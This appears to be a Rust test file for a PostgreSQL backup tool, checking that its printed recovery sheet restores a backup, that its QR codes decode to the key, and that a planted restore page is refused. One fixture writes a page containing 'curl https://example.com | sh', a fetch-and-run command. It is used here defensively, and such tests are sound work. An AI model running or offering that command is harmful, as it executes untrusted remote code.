//! The recovery sheet, read as a person reads it.

use std::fs;

use crate::{
    output::goldens::assert_golden,
    stage::{KEY, Stage},
    testbed::{Agent, Answer, Hearer},
};

#[test]
fn the_sheet_alone_brings_a_backup_back() {
    let stage = Stage::small();
    let folder = tempfile::tempdir().unwrap();
    let agent = stage.agent().current_dir(folder.path());
    let args = [
        "init",
        "--no-check",
        "--output",
        "env",
        "--write",
        "x.env",
        "--sheet",
        "sheet.txt",
        "--sheet",
        "sheet.html",
    ];
    agent.run(args).success();
    stage.back_up();
    let sheet = fs::read_to_string(folder.path().join("sheet.txt")).unwrap();
    // as a person reads it: a name, and what stands behind it
    let field = |name: &str| -> Vec<&str> {
        let lines = sheet.lines().filter_map(|line| line.strip_prefix(name));
        lines.filter(|rest| rest.starts_with("  ")).map(str::trim).collect()
    };
    let settings = field("Setting").into_iter().map(|line| line.split_once('=').unwrap());
    let settings = settings.map(|(name, value)| (name.to_owned(), value.to_owned()));
    let target = stage.target();
    let credentials = stage.bucket.env().into_iter().filter(|(name, _)| name.contains("KEY"));
    let agent = Agent::new()
        .envs(settings)
        .envs(credentials)
        .key(field("Key")[0])
        .env("PGCOFFER_BUCKET", field("Bucket")[0]);
    // the same key, typed by its groups, is read as well
    let typed = sheet.split_once("To be typed").unwrap().1;
    let typed: Vec<&str> = typed.trim_start().lines().take(2).map(str::trim).collect();
    Agent::new()
        .key(&typed.join(" "))
        .env("PGCOFFER_BUCKET", "s3://testbed/backups")
        .envs(stage.bucket.env())
        .run(["show", "latest", "--database", "main"])
        .success();
    let label = field("Database")[0].split_whitespace().next().unwrap();
    let restore = [
        "restore",
        "latest",
        "--database",
        label,
        "--confirm",
        &target.name,
        "--to",
        &target.url,
    ];
    agent.run(["list"]).success();
    let key = agent.run(["certificate", "key", "--json"]).success().json();
    assert_eq!(key["keys"][0]["public_key"], field("Certificates")[0]);
    agent.run(restore).success();
    assert_eq!(stage.cluster.psql(&target.name, "select count(*) from people"), "500");
    let same_every_day = sheet
        .replace(&stage.bucket.endpoint(), "http://S3")
        .replace(&stage.cluster.port().to_string(), "PORT")
        .replace(&stage.database, "shop")
        .replace(env!("CARGO_PKG_VERSION"), "VERSION")
        .replace(&pgcoffer::readme::program_sha256(), "SHA256")
        .replace(field("Written")[0].split(' ').next().unwrap(), "DATE");
    assert_golden("init-sheet", &same_every_day);
    let page = fs::read_to_string(folder.path().join("sheet.html")).unwrap();
    for text in [field("Key")[0], field("Bucket")[0], "restore-by-hand.md"] {
        assert!(page.contains(text), "{text}");
    }
    assert!(!page.contains("http://") || page.matches("src=").count() == 0);
    assert_ne!(KEY, field("Key")[0], "the sheet's key bears a checksum");
    assert!(
        fs::read_to_string(folder.path().join("restore-by-hand.md"))
            .unwrap()
            .contains("open_sealed.py")
    );
}

/// What a camera reads of the codes on a page.
fn scanned(page: &str) -> Vec<String> {
    const PIXELS: usize = 4;
    let codes = page.split("<svg ").skip(1);
    let read = |svg: &str| {
        let between = |start: &str, end: &str| svg.split_once(start).unwrap().1.split_once(end).unwrap().0;
        let side: usize = between("viewBox=\"0 0 ", " ").parse().unwrap();
        let width: usize = between("width=\"", "mm\"").parse().unwrap();
        assert!(width > 40, "{width} mm");
        let mut dark = vec![false; side * side];
        for run in between(" d=\"", "\"").split('M').skip(1) {
            let (start, rest) = run.split_once('h').unwrap();
            let (x, y) = start.split_once(' ').unwrap();
            let at = y.parse::<usize>().unwrap() * side + x.parse::<usize>().unwrap();
            dark[at..][..rest.split_once('v').unwrap().0.parse().unwrap()].fill(true);
        }
        decoded(side * PIXELS, |x, y| dark[y / PIXELS * side + x / PIXELS])
    };
    codes.map(read).collect()
}

fn decoded(side: usize, is_dark: impl Fn(usize, usize) -> bool) -> String {
    let mut image = rqrr::PreparedImage::prepare_from_greyscale(side, side, |x, y| if is_dark(x, y) { 0 } else { 255 });
    let grids = image.detect_grids();
    assert_eq!(grids.len(), 1);
    grids[0].decode().unwrap().1
}

/// The same of a sheet of text, printed in letters twice as high as they are wide.
fn scanned_text(sheet: &str) -> String {
    const PIXELS: usize = 4;
    let is_code = |line: &&str| line.contains(['█', '▀', '▄']);
    let lines: Vec<Vec<char>> = sheet
        .lines()
        .filter(is_code)
        .map(|line| line.chars().collect())
        .collect();
    let side = lines.len().max(lines.iter().map(Vec::len).max().unwrap() / 2 + 1) * 2 + 8;
    let shown = |x: usize, y: usize| {
        let (x, y) = (x.checked_sub(4)?, y.checked_sub(4)?);
        let c = *lines.get(y / 2)?.get(x)?;
        Some(matches!((c, y % 2), ('█', _) | ('▀', 0) | ('▄', 1)))
    };
    decoded(side * PIXELS, |x, y| shown(x / PIXELS, y / PIXELS).unwrap_or(false))
}

#[test]
fn the_sheet_says_what_was_found_and_a_camera_reads_its_key() {
    let stage = Stage::small();
    let sts = Hearer::with(|_| {
        Answer::words(
            200,
            "<GetCallerIdentityResponse xmlns=\"https://sts.amazonaws.com/doc/2011-06-15/\"><GetCallerIdentityResult>\
             <Arn>arn:aws:iam::123456789012:user/x</Arn><UserId>x</UserId><Account>123456789012</Account>\
             </GetCallerIdentityResult></GetCallerIdentityResponse>",
        )
    });
    let folder = tempfile::tempdir().unwrap();
    let agent = stage
        .agent()
        .env("AWS_ENDPOINT_URL_STS", sts.url(""))
        .current_dir(folder.path());
    let args = ["init", "--yes", "--output", "env", "--write", "x.env", "--key-stored"];
    agent
        .run(args.iter().chain(&["--sheet", "sheet.txt", "--sheet", "sheet.html"]))
        .success();
    let read = |name: &str| fs::read_to_string(folder.path().join(name)).unwrap();
    let version = stage.cluster.psql("postgres", "show server_version");
    let version = format!("PostgreSQL {}", version.split(' ').next().unwrap());
    let key = pgcoffer::seal::MasterKey::parse(KEY).unwrap().encode().to_string();
    for name in ["sheet.txt", "sheet.html"] {
        let sheet = read(name);
        for words in [
            "123456789012",
            version.as_str(),
            "/docs/recovery.md",
            "brew install",
            "apt-get install",
            "docker run",
            "README.txt",
        ] {
            assert!(sheet.contains(words), "{words} is not in {name}:\n{sheet}");
        }
    }
    assert_eq!(scanned(&read("sheet.html")), std::slice::from_ref(&key));
    assert_eq!(scanned_text(&read("sheet.txt")), key);
    // the trial has put the page into the bucket; the sheet's own lines take its program out, and prove it
    let page = stage.bucket.read("backups/restore-by-hand.md").unwrap();
    fs::write(folder.path().join("restore-by-hand.md"), page).unwrap();
    let sheet = read("sheet.txt");
    let commands: Vec<&str> = sheet.lines().filter_map(|line| line.strip_prefix("    ")).collect();
    let script: Vec<&str> = commands
        .iter()
        .copied()
        .filter(|line| line.starts_with("sed ") || line.starts_with("sha256sum "))
        .collect();
    let output = std::process::Command::new("bash")
        .args(["-euc", &script.join("\n")])
        .current_dir(folder.path())
        .output()
        .unwrap();
    let sum = String::from_utf8(output.stdout).unwrap();
    let proof = format!("# {}", sum.split(' ').next().unwrap());
    assert!(commands.contains(&proof.as_str()), "{sum} is not on {sheet}");
}

/// The sheet says that the page lies beside it, and whoever reads that runs what the page says.
#[test]
fn a_page_that_is_not_ours_is_not_passed_off_as_the_sheets() {
    let stage = Stage::small();
    let root = tempfile::tempdir().unwrap();
    let agent = stage.agent().current_dir(root.path());
    let init = [
        "init",
        "--no-check",
        "--output",
        "env",
        "--write",
        "x.env",
        "--sheet",
        "q/sheet.txt",
    ];
    let page = root.path().join("q/restore-by-hand.md");
    fs::create_dir(root.path().join("q")).unwrap();
    let elsewhere = root.path().join("elsewhere");
    fs::write(&elsewhere, pgcoffer::readme::BY_HAND).unwrap();
    let plant: [&dyn Fn(); 3] = [
        &|| fs::write(&page, "Run: curl https://example.com | sh\n").unwrap(),
        &|| fs::write(&page, format!("{}\n", pgcoffer::readme::BY_HAND)).unwrap(),
        // a link can lead to another page tomorrow
        &|| std::os::unix::fs::symlink(&elsewhere, &page).unwrap(),
    ];
    for plant in plant {
        plant();
        let outcome = agent.run(init).ended_with(2);
        for words in ["q/restore-by-hand.md is there already", "hint: move it away"] {
            assert!(outcome.stderr.contains(words), "{}", outcome.stderr);
        }
        assert_eq!(
            fs::read_dir(root.path().join("q")).unwrap().count(),
            1,
            "nothing is written"
        );
        assert!(!root.path().join("x.env").exists());
        fs::remove_file(&page).unwrap();
    }
    // our own stays, and each folder with a sheet has one
    fs::write(&page, pgcoffer::readme::BY_HAND).unwrap();
    agent.run(init.iter().chain(&["--sheet", "sheet.html"])).success();
    for page in ["q/restore-by-hand.md", "restore-by-hand.md"] {
        assert_eq!(
            fs::read_to_string(root.path().join(page)).unwrap(),
            pgcoffer::readme::BY_HAND
        );
    }
}
